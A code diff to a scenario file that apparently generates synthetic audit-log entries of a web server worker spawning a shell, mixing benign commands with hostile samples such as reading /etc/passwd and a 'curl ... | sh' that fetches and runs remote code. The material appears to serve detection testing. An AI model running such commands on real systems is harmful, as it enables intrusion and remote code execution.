@@ -45,13 +45,13 @@ export default defineScenario({
       ),
       entry(
         'audit',
-        either('exec', 'open'),
+        'exec',
         {
           pid: make.pid(key),
           ppid: make.pid('fpm'),
           uid,
           euid: uid,
-          path: either('/bin/sh', `/var/www${file}`),
+          path: '/bin/sh',
           cmd: either(
             pick(`${key}/c`, [
               'sh -c id',
@@ -59,7 +59,11 @@ export default defineScenario({
               'sh -c "cat /etc/passwd"',
               'sh -c "curl -s ' + from + '|sh"',
             ]),
-            'sendfile',
+            pick(`${key}/d`, [
+              'sh -c "convert -resize 200x200 in out"',
+              'sh -c "file --mime in"',
+              'sh -c "cat in | sha256sum"',
+            ]),
           ),
         },
         ['uid={uid} ppid={ppid} {cmd} ({path})', 'worker {ppid}: {cmd}'],
